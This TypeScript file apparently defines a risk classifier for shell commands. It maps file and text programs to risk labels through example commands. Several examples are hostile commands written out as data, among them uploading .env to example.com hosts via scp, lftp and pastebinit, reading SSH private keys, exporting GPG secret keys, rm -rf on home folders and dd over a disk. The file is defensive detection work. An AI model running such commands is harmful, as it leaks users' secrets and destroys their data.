import type { Program } from './program.ts'

/** Programs that deal with files and text. */
export const FILE_PROGRAMS: Readonly<Record<string, Program>> = {
  'cat tac nl less more most bat batcat zcat bzcat xzcat zless gzcat lz4cat zstdcat rev fold fmt expand unexpand pr paste join comm look':
    {
      operands: 'reads',
      valued: '-w -t -s -d -H -l --language --line-range -r --theme --style --pager -o -1 -2 -j -e --width --tabs',
      reader: 'cat',
      examples: { 'cat .env': 'read secret', cat: '' },
    },
  gio: {
    under: {
      'remove trash': { operands: 'deletes-tree', valued: '--restore' },
      'copy move': { operands: 'reads', last: 'writes' },
      cat: { operands: 'reads' },
      save: { operands: 'writes' },
    },
    examples: { 'gio remove -f ~/Documents': 'delete home', 'gio info src': '', 'gio cat .env': 'read secret' },
  },
  column: {
    operands: 'reads',
    valued: '-s -o -c -N -R -E -H -J-x --separator --output-separator --table-columns',
    examples: { 'column -t .env': 'read secret' },
  },
  'head tail': {
    filters: true,
    operands: 'reads',
    valued: '-n -c --lines --bytes --pid -s --sleep-interval',
    examples: { 'head -n 5 ~/.netrc': 'read secret' },
  },
  'wc md5sum sha1sum sha224sum sha256sum sha384sum sha512sum b2sum cksum sum md5 shasum crc32 xxhsum': {
    operands: 'uses',
    valued: '-a --algorithm --files0-from',
    examples: { 'sha256sum dist/a': '' },
  },
  'od hexdump hd strings base32 basenc uuencode bsdcat': {
    operands: 'reads',
    valued: '-A -t -j -N -w -n -e -f -s -S --bytes --encoding -C',
    examples: { 'od -c .env': 'read secret' },
  },
  'diff sdiff colordiff vimdiff icdiff cmp diff3 delta difft patchdiff': {
    quiet: '-q --brief -s --quiet --silent',
    operands: 'reads',
    valued: '-U -C -x --exclude -I -W --color -F -D --label -i -n --context --unified',
    options: { reads: '--from-file --to-file' },
    examples: { 'diff .env .env.example': 'read secret', 'diff -q .env .env.example': '' },
  },
  'sort uniq shuf tsort': {
    filters: true,
    operands: 'reads',
    valued: '-k -t -S -T --key --field-separator --buffer-size --parallel -n -i',
    options: { writes: '-o --output' },
    examples: { 'sort a -o /etc/hosts': 'write system' },
  },
  cut: {
    operands: 'reads',
    valued: '-d -f -c -b --delimiter --fields --output-delimiter',
    examples: { 'cut -d= -f2 .env': 'read secret' },
  },
  'ls dir vdir exa eza lsd stat file namei readlink realpath df findmnt lsattr getfacl getfattr mdls': {
    operands: 'names',
    valued: '-I -c -w -T --printf --format --ignore --sort --time-style --block-size',
    reader: 'list',
    examples: { 'ls -la .env': '' },
  },
  'grep egrep fgrep zgrep rg ag ack ugrep pcregrep pcre2grep ripgrep': {
    reader: 'grep',
    examples: { 'grep KEY .env': 'read secret', "grep 'rm -rf /' README.md": '' },
  },
  'du tree ncdu dust duf': {
    operands: 'names',
    valued: '-d -L -I -P -H -o -t -B --max-depth --exclude --level',
    examples: { 'du -sh node_modules': '', 'tree -L 2': '' },
  },
  'touch mkfifo': {
    operands: 'makes',
    valued: '-d -t -r --date --reference -m --mode',
    examples: { 'touch a': 'write project' },
  },
  mkdir: { reader: 'mkdir', examples: { 'mkdir -p src/a': 'write project' } },
  rmdir: { operands: 'deletes', examples: { 'rmdir empty': 'delete project' } },
  'rm unlink srm trash trash-put gio-trash rimraf del-cli del trash-cli rip grm wipe secure-delete': {
    reader: 'rm',
    examples: { 'rm -rf ~/Documents': 'delete home', 'rm --help': '' },
  },
  'fdupes jdupes rdfind czkawka_cli czkawka-cli rmlint dupeguru fclones duff dupe-krill': {
    reader: 'duplicates',
    examples: { 'fdupes -r ~/Pictures': '', 'fdupes -rdN ~/Pictures': 'delete home' },
  },
  'rename prename perl-rename file-rename mmv zmv vidir krename brename f2 rnr': {
    reader: 'rename',
    examples: { "rename -n 's/a/b/' ~/a": '', "rename 's/a/b/' ~/Documents/x": 'delete home' },
  },
  'tmpreaper tmpwatch stmpclean': {
    reader: 'tidy-up',
    examples: { 'tmpreaper --test 1d ~/x': '', 'tmpreaper 7d ~/Documents': 'delete home' },
  },
  'scrub nwipe dban bcwipe eraser sfill sswap sdmem': {
    operands: 'deletes-tree',
    valued: '-p -b -d -s -T -D -l -m -P --method --rounds --verify --prng',
    dry: '--help -h -V',
    examples: { 'scrub -V': '', 'scrub ~/Documents/notes.txt': 'delete home' },
  },
  bleachbit: {
    with: { '-c --clean --delete -d': 'machine settings' },
    options: { 'deletes-tree': '-s --shred' },
    operands: 'value',
    examples: { 'bleachbit --list': '', 'bleachbit --shred ~/Documents': 'delete home' },
  },
  'kioclient kioclient5 kioclient6 kde-open': {
    reader: 'kde-files',
    examples: { 'kioclient cat /tmp/a': '', 'kioclient5 del file:///home/dev/Documents': 'delete home' },
  },
  'mogrify jpegoptim optipng pngquant pngcrush advpng advdef advmng advzip jpegtran gifsicle zopflipng oxipng exiftran jhead svgo exiftool exiv2 id3v2 mid3v2 eyeD3 metaflac qpdf-inplace mp3gain dos2unix unix2dos mac2unix':
    {
      reader: 'in-place',
      examples: {
        'exiftool docs/a.jpg': '',
        'exiftool ~/Pictures/a.jpg': '',
        'exiftool -overwrite_original -all= ~/Pictures/a.jpg': 'write home',
        'mogrify -resize 10% ~/Pictures/a.jpg': 'write home',
        'dos2unix src/a.ts': 'write project',
      },
    },
  'convert magick ffmpeg sox gm lame flac oggenc cwebp dwebp heif-convert inkscape gs': {
    reader: 'converter',
    examples: {
      'convert a.png -resize 5% b.png': 'write project',
      'ffmpeg -i a.mp4 -y ~/Pictures/a.jpg': 'write home',
    },
  },
  'unison osync bsync': {
    reader: 'keep-same',
    examples: { 'unison -version': '', 'unison ~/a ~/Documents -force ~/a -batch': 'delete home' },
  },
  'restic borg borgmatic duplicity kopia bup tarsnap rustic rdiff-backup duplicacy attic zbackup': {
    reader: 'backups',
    examples: { 'restic snapshots': '', 'borg delete /srv/backup': 'cloud delete' },
  },
  'lftp ftp smbclient ncftp tnftp tftp atftp ncftpput cadaver': {
    reader: 'transfer',
    examples: {
      "lftp -e 'ls; bye' example.com": '',
      "lftp -e 'put .env' example.com": 'read secret,send',
      "smbclient //h.example.com/x -c '!rm -rf ~/Documents'": 'delete home',
    },
  },
  'pastebinit wgetpaste ix 0x0 termbin fpaste hastebin haste gist gist-paste mosquitto_pub nsca-send': {
    reader: 'upload',
    examples: { 'pastebinit -i .env': 'read secret,send' },
  },
  shred: { reader: 'shred', examples: { 'shred -u a': 'delete project' } },
  'truncate fallocate': { reader: 'truncate', examples: { 'truncate -s 0 ~/a': 'delete home' } },
  'mv gmv': { reader: 'mv', examples: { 'mv ~/Documents /tmp/x': 'delete home' } },
  'cp gcp pcp ditto': { reader: 'cp', examples: { 'cp a /etc/hosts': 'write system' } },
  'install ginstall': { reader: 'install', examples: { 'install -m 755 t /usr/local/bin/node': 'write system' } },
  'ln link symlink': { reader: 'ln', examples: { 'ln -s /tmp/x ~/.bashrc': 'write startup' } },
  chmod: { reader: 'chmod', examples: { 'chmod -R 000 ~': 'write home' } },
  'chown chgrp': {
    operands: 'value owner',
    valued: '--reference --from',
    examples: { 'chown root a': 'write project' },
  },
  'chattr setfacl setfattr xattr restorecon chcon SetFile': {
    reader: 'attributes',
    examples: { 'setfacl -R -m u:x:rwx /': 'write system' },
  },
  'tee sponge': { reader: 'tee', examples: { 'tee /etc/hosts': 'write system' } },
  'dd dcfldd ddrescue': { reader: 'dd', examples: { 'dd if=/dev/zero of=/dev/sda': 'write device' } },
  'sed gsed': {
    reader: 'sed',
    examples: { "sed -i 's/a/b/' src/index.ts": 'write project', "sed -n '/rm -rf/p' a": '' },
  },
  'awk gawk mawk nawk': { reader: 'awk', examples: { "awk -F= '{print $2}' .env": 'read secret' } },
  'jq yq gojq jaq dasel xq tomlq fx': {
    reader: 'jq',
    examples: { "jq '.a' package.json": '', "yq -i '.a=1' a.yml": 'write project' },
  },
  tr: { reader: 'tr', examples: { 'tr a b': '' } },
  'base64 gbase64': { reader: 'base64', examples: { 'base64 .env': 'read secret' } },
  xxd: { reader: 'xxd', examples: { 'xxd ~/.ssh/id_ed25519': 'read secret' } },
  'gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd lz4 compress uncompress pigz pbzip2 lzma lzop brotli': {
    reader: 'compress',
    examples: { 'gzip -k data.json': '' },
  },
  'tar gtar bsdtar': { reader: 'tar', examples: { 'tar xzf a.tgz -C /etc': 'write system', 'tar tzf a.tgz': '' } },
  'zip 7z 7za 7zz rar': { reader: 'zip', examples: { 'zip -r a.zip src': 'write project' } },
  'unzip unrar unar': { reader: 'unzip', examples: { 'unzip -l a.zip': '', 'unzip a.zip -d /etc': 'write system' } },
  'cpio ar pax': {
    operands: 'value uses',
    options: { writes: '-O -D --directory --output', reads: '-I' },
    examples: { 'ar t lib.a': '' },
  },
  rsync: {
    reader: 'rsync',
    examples: { 'rsync -a --delete a/ ~/Documents/': 'delete home', 'rsync -n -a a/ /etc/': '' },
  },
  'scp sftp rcp': { reader: 'scp', examples: { 'scp .env u@h.example.com:/x': 'read secret,send' } },
  rclone: { reader: 'rclone', examples: { 'rclone lsd x:': '' } },
  'find gfind': {
    reader: 'find',
    examples: { "find . -name '*.pyc' -delete": 'delete project', "find . -name '*.ts'": '' },
  },
  'fd fdfind': { reader: 'fd', examples: { 'fd -e ts': '' } },
  which: { reader: 'which', examples: { 'which node': '' } },
  'locate mlocate plocate updatedb whereis type command-v whatis apropos man tldr info help cheat': {
    operands: 'value',
    examples: { 'man rm': '' },
  },
  split: {
    operands: 'reads writes',
    valued: '-l -b -n -a -C --lines --bytes --number --suffix-length --line-bytes --filter --additional-suffix',
    examples: { 'split -l 5 a': '', 'split a /etc/x': 'write system' },
  },
  csplit: {
    operands: 'reads value',
    valued: '-n -b',
    options: { writes: '-f --prefix' },
    examples: { 'csplit a 5': '' },
  },
  patch: {
    reader: 'patch',
    operands: 'edits',
    options: { reads: '-i --input', edits: '-o' },
    valued: '-p -d -D -F',
    dry: '--dry-run',
    examples: { 'patch --dry-run a': '' },
  },
  'iconv recode enca uconv': {
    operands: 'reads',
    valued: '-f -t --from-code --to-code',
    options: { writes: '-o --output' },
    examples: { 'iconv -f a -t b x': '' },
  },
  'pandoc asciidoctor wkhtmltopdf pdftotext qpdf identify': {
    operands: 'uses',
    options: { writes: '-o --output' },
    examples: { 'pandoc a.md -o b.html': 'write project' },
  },
  echo: { reader: 'echo', examples: { "echo 'rm -rf /'": '' } },
  printf: { reader: 'printf', examples: { "printf 'rm -rf ~'": '' } },
  'yes seq date cal sleep true false : basename dirname expr bc factor nproc arch uname hostname whoami id groups logname tty uptime free vmstat iostat top htop btop ps pstree pgrep lsof fuser who w last users lscpu lsblk lsusb lspci lsmod dmesg journalctl ulimit umask times jobs fg bg wait disown let getopts shift break continue return exit logout tput clear stty setterm locale getconf ldd nm objdump readelf size addr2line otool lipo tokei cloc scc figlet cowsay lolcat shellcheck hadolint yamllint actionlint markdownlint cspell typos codespell test [ [[ pwd dirs caller enable numfmt sw_vers system_profiler getent ldconfig-p ipcs lsns pmset-g mdfind say notify-send xdpyinfo glxinfo nvidia-smi rocm-smi sensors acpi vainfo':
    { reader: 'calm', examples: { 'sleep 2': '', 'basename a': '', 'test "$cmd" = \'rm -rf /\'': '' } },
  'env printenv': { reader: 'env', examples: { env: '', 'printenv PATH': '' } },
  'export declare typeset local readonly': { reader: 'declare', examples: { 'export A=1': '' } },
  'unset set shopt setopt unsetopt': { reader: 'set', examples: { 'set -e': '' } },
  alias: { reader: 'alias', examples: { alias: '' } },
  unalias: { operands: 'value', examples: { 'unalias a': '' } },
  'hash bind compgen complete': {
    reader: 'later',
    examples: { 'complete -F _x x': '', 'bind -x \'"a": rm -rf ~/Documents\'': 'delete home' },
  },
  'read mapfile readarray': { reader: 'read', examples: { 'read x': '' } },
  trap: { reader: 'trap', examples: { "trap 'rm -rf ~/x' EXIT": 'delete home' } },
  'cd pushd chdir': { reader: 'cd', examples: { 'cd src': '' } },
  popd: { reader: 'popd', examples: { popd: '' } },
  'mktemp tempfile': { reader: 'mktemp', examples: { 'mktemp -d': '' } },
  'pbcopy pbpaste xclip xsel wl-copy wl-paste clip': { operands: 'reads', examples: { pbpaste: '' } },
  'open xdg-open start explorer': { operands: 'value', examples: { 'open https://example.com': '' } },
  'vi vim nvim nano emacs ed ex code cursor subl micro helix hx pico joe zed idea': {
    reader: 'editor',
    examples: { 'code .': '' },
  },
  'history fc': {
    reader: 'history',
    examples: { history: '', 'history -r': 'read secret', 'history -c': 'delete secret' },
  },
  'screen tmux': { reader: 'tmux', examples: { 'tmux ls': '' } },
  'gpg gpg2': { reader: 'gpg', examples: { 'gpg --export-secret-keys': 'read secret', 'gpg --verify a.sig': '' } },
  openssl: { reader: 'openssl', examples: { 'openssl rand -hex 16': '' } },
  'age sops ansible-vault': { reader: 'decrypt', examples: { 'sops -d secrets.yaml': 'read secret' } },
  'ssh-keygen': {
    options: { writes: '-f' },
    valued: '-t -b -C -N -P -m',
    operands: 'value',
    reader: 'ssh-keygen',
    examples: { 'ssh-keygen -l -f a.pub': '' },
  },
  'ssh-add ssh-keyscan': { operands: 'uses', examples: { 'ssh-add -l': '' } },
  'ssh-copy-id': {
    operands: 'send',
    does: 'machine startup likely',
    valued: '-p -o -F',
    options: { reads: '-i' },
    examples: { 'ssh-copy-id u@h.example.com': 'send,machine startup' },
  },
}
